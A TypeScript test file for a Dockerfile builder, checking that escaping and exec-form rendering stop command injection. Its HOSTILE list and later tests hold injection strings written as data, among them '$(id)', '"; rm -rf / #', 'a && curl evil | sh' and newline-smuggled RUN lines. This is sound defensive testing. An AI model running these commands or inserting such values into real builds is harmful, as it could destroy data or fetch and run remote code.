import { BASE_IMAGES } from './baseImages';
import {
  DockerfileBuilder,
  dockerJsonArray,
  dockerJsonString,
  shellCommand,
} from './dockerfile';
import { UnsafeValueError } from './errors';
import { parseDockerfile } from './__testUtils__/dockerfileStructure';

const HOSTILE = [
  '$(id)',
  '`id`',
  '${HOME}',
  '"; rm -rf / #',
  "it's",
  'a\\',
  'back\\slash"quote',
  'line\nRUN echo pwned',
  'cr\rRUN echo pwned',
  'a && curl evil | sh',
  '<<EOF',
  'tab\there',
  'ünïcødé ✓ 🚀',
  '\u2028RUN echo pwned\u2029',
  '# comment',
  '\\\nRUN echo continued',
  ']',
  '[',
  '\u007f\u0085',
];

describe('dockerJsonString', () => {
  it.each(HOSTILE)(
    'round-trips %j through JSON.parse as plain ASCII',
    value => {
      const encoded = dockerJsonString(value);
      expect(JSON.parse(encoded)).toBe(value);
      expect(encoded).toMatch(/^[\x20-\x7e]*$/);
      expect(encoded).not.toContain('<');
    },
  );

  it('rejects NUL', () => {
    expect(() => dockerJsonString('a\u0000b')).toThrow(UnsafeValueError);
  });
});

describe('DockerfileBuilder', () => {
  it('keeps every hostile value inside its own exec-form argument', () => {
    const b = new DockerfileBuilder('test');
    b.from(BASE_IMAGES.nodeBuild, 'build');
    b.workdir('/app');
    b.run(['echo', ...HOSTILE]);
    b.from(BASE_IMAGES.nodeRuntime);
    b.env({ PORT: '8080' });
    b.user('node');
    b.expose(8080);
    b.cmd(shellCommand('exec "$@"', ...HOSTILE));
    const text = b.render();
    const parsed = parseDockerfile(text);
    expect(parsed.instructionCount).toBe(8);
    expect(parsed.stages).toHaveLength(2);
    const run = parsed.stages[0].instructions.find(i => i.keyword === 'RUN')!;
    expect(run.json).toEqual(['echo', ...HOSTILE]);
    const cmd = parsed.final.instructions.find(i => i.keyword === 'CMD')!;
    expect(cmd.json).toEqual(['sh', '-c', 'exec "$@"', 'sh', ...HOSTILE]);
    // One instruction per line, nothing else.
    expect(text.split('\n').filter(l => /^[A-Z]+ /.test(l))).toHaveLength(8);
  });

  it('refuses non-constant values where Docker would expand variables', () => {
    const b = new DockerfileBuilder('test');
    b.from(BASE_IMAGES.nodeBuild, 'build');
    expect(() => b.copy(['$(id)'], './')).toThrow(/internal error/);
    expect(() => b.workdir('/app dir')).toThrow(/internal error/);
    expect(() => b.env({ A: '${HOME}' })).toThrow(/internal error/);
    expect(() => b.user('root\nRUN id')).toThrow(/internal error/);
    expect(() => b.comment('a\nRUN id')).toThrow(/internal error/);
    expect(() => b.copy(['a'], './', { from: 'nope' })).toThrow(
      /unknown stage/,
    );
    expect(() => b.expose(0)).toThrow(/bad port/);
  });

  it('renders CMD last even when set early', () => {
    const b = new DockerfileBuilder('test');
    b.from(BASE_IMAGES.debianRuntime).cmd(['/app/server']).user('10001:10001');
    expect(b.render().trim().split('\n').pop()).toBe('CMD ["/app/server"]');
  });

  it('renders arrays with JSON separators', () => {
    expect(dockerJsonArray(['a', 'b c'])).toBe('["a", "b c"]');
  });
});

describe('the Dockerfile checker used by these tests', () => {
  it('rejects what the validator rejects', () => {
    expect(() => parseDockerfile('FROM node:22\nEXPOSE abc\n')).toThrow(
      /does not validate/,
    );
    expect(() => parseDockerfile('RUN true\n')).toThrow();
  });

  it('tells exec form from shell form', () => {
    const parsed = parseDockerfile(
      'FROM node:22\nCMD ["a", "b"]\nRUN echo [x]\n',
    );
    expect(parsed.final.instructions.map(i => i.json)).toEqual([
      ['a', 'b'],
      undefined,
    ]);
  });

  it('fails on a JSON array broken by a raw newline', () => {
    expect(() =>
      parseDockerfile('FROM node:22\nCMD ["a\nRUN echo pwned"]\n'),
    ).toThrow();
  });
});
